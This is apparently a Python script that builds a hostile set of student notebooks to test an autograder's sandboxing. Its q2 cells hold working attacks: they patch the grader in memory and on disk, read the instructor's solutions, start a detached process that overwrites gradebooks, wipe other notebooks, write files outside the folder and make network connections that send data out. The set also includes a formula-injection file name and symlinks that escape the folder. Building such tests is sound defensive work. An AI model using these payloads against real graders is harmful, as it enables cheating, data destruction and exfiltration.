"""Build the hostile class in ``fixtures/set1-hostile`` from the set 1 student notebook.

Run ``python tests/grading/make_hostile_class.py`` after set 1 changes, then review the
differences of ``fixtures/set1-hostile-gradebook.csv`` (see
``test_grading_hostile_class.py``). Every attacker answers q2 wrongly (``"a"``) and
every other question rightly, and attacks in its q2 answer cell: a successful attack
would show as a q2 mark it did not earn. Beside the attackers the folder holds the
oddities a real upload folder has (links, hidden files, case variants, collisions).
"""

from __future__ import annotations

import os
from pathlib import Path

import nbformat
from make_fixture_class import KEY, RIGHT, _answers

HERE = Path(__file__).parent
CLASS = HERE / "fixtures" / "set1-hostile"
LISTENER_PORT = 47321
"""A port on the host's loopback the network attacker tries (the test listens on it)."""

WRONG_Q2 = 'answer_q2 = "a"'

# Walks the visible file system (skipping the system folders) for the grader's files.
FIND = """import os

def targets(*suffixes):
    skip = {"/usr", "/proc", "/sys", "/dev", "/etc", "/bin", "/sbin", "/lib", "/lib64"}
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip]
        for name in files:
            if name.endswith(suffixes):
                yield os.path.join(top, name)
"""

ATTACKS = {
    # the checker and the recorder replaced in memory under names built at run time
    "mallet-computed-name": (
        'checker = __import__("korea_talks.chec" + "ks.checker", fromlist=["x"])\n'
        'setattr(checker, "eval" + "uate", lambda q, a: type("R", (), {"earned": True, '
        '"line": q.split(".")[1] + ": correct"})())\n'
        'globals()["chec" + "k"] = lambda q, a: print(q.split(".")[1] + ": correct")\n'
        'globals()["_korea_talks_rec" + "ord"] = lambda q, a: print(q.split(".")[1] + '
        '": correct")\n' + WRONG_Q2
    ),
    # the package on disk patched so that every later check passes
    "oscar-disk-patch": (
        "import pathlib\n"
        'package = pathlib.Path(__import__("korea_talks").__file__).parent\n'
        'for target in [package / "checks" / "checker.py", package / "grading" / "grade.py"]:\n'
        "    try:\n"
        '        with open(target, "a") as handle:\n'
        '            handle.write("\\nevaluate = lambda q, a: None\\n")\n'
        "    except OSError as exc:\n"
        '        print("patch refused:", type(exc).__name__)\n' + WRONG_Q2
    ),
    # the instructor's solutions and the answer data read from the checkout
    "rupert-reads-solutions": (
        FIND + "import re\n"
        "found = None\n"
        'for path in targets(".ipynb", ".toml"):\n'
        '    if "source" in path or "answers_" in path:\n'
        "        text = open(path).read()\n"
        "        match = re.search(r'answer_q2 = \\\\\"(\\\\w)', text)\n"
        "        found = match.group(1) if match else found\n"
        'answer_q2 = found or "a"'
    ),
    # a detached process that outlives the kernel and rewrites the gradebook
    "sybil-daemon": (
        "import subprocess, sys\n"
        "script = " + repr(FIND) + " + '''\n"
        "import time\n"
        "time.sleep(1)\n"
        'for path in targets(".csv"):\n'
        "    try:\n"
        '        open(path, "w").write("student,total\\\\nsybil-daemon,999\\\\n")\n'
        "    except OSError:\n"
        "        pass\n"
        "'''\n"
        "subprocess.Popen([sys.executable, '-c', script], start_new_session=True,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n" + WRONG_Q2
    ),
    # every other notebook it can reach overwritten with its own
    "trudy-sabotage": (
        FIND + "spoiled = 0\n"
        'for path in targets(".ipynb"):\n'
        "    try:\n"
        '        open(path, "w").write("{}")\n'
        "        spoiled += 1\n"
        "    except OSError:\n"
        "        pass\n"
        'print("files overwritten:", spoiled)\n' + WRONG_Q2
    ),
    # notebooks and files in the folders above the scratch folder
    "victor-writes-above": (
        "import os\n"
        "for up in ('..', '../..', '../../..', '/'):\n"
        "    try:\n"
        '        with open(os.path.join(up, "planted.txt"), "w") as handle:\n'
        '            handle.write("planted")\n'
        '        print("wrote in", os.path.abspath(up))\n'
        "    except OSError as exc:\n"
        '        print("refused in", up, type(exc).__name__)\n' + WRONG_Q2
    ),
    # the host's loopback and the internet
    "walter-network": (
        "import socket\n"
        f"for host, port in (('127.0.0.1', {LISTENER_PORT}), ('pypi.org', 443)):\n"
        "    try:\n"
        "        socket.create_connection((host, port), timeout=2).sendall(b'leak')\n"
        "        print('connected to', host)\n"
        "    except OSError as exc:\n"
        "        print('no connection to', host, type(exc).__name__)\n" + WRONG_Q2
    ),
}


def build() -> None:
    """Write the hostile class (the FIFO of the folder oddities is made by the test)."""
    key = nbformat.read(KEY, as_version=4)
    if CLASS.exists():
        for path in sorted(CLASS.rglob("*"), key=lambda p: -len(p.parts)):
            path.unlink() if path.is_file() or path.is_symlink() else path.rmdir()
    CLASS.mkdir(parents=True, exist_ok=True)

    def save(relative: str, nb: nbformat.NotebookNode) -> None:
        path = CLASS / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(nbformat.writes(nb) + "\n", encoding="utf-8")

    for name, attack in ATTACKS.items():
        save(f"{name}.ipynb", _answers(key, {**RIGHT, "q2": attack}))
    stubs = {label: f"answer_{label} = ..." for label in RIGHT}  # nothing answered yet
    blank = _answers(key, stubs)
    save("alex.ipynb", blank)  # beside the folder alex/ holding alex.ipynb
    save("alex/alex.ipynb", _answers(key, {**stubs, "q1": RIGHT["q1"]}))
    save("UPPER.IPYNB", _answers(key, {**stubs, "q1": RIGHT["q1"]}))
    save(".hidden.ipynb", blank)
    save(".ipynb_checkpoints/alex-checkpoint.ipynb", blank)
    save("looks-like.ipynb/inner.ipynb", blank)
    save("=HYPERLINK(1).ipynb", blank)
    (CLASS / "empty-folder.ipynb").mkdir()
    (CLASS / "empty-folder.ipynb" / "README.txt").write_text("not a notebook\n")
    (CLASS / "notes.txt").write_text("not a notebook\n")
    os.symlink("alex.ipynb", CLASS / "link-to-alex.ipynb")
    os.symlink("missing.ipynb", CLASS / "dangling.ipynb")
    os.symlink("../../../../exercises/source/set1-crisis.ipynb", CLASS / "escape.ipynb")


if __name__ == "__main__":
    build()
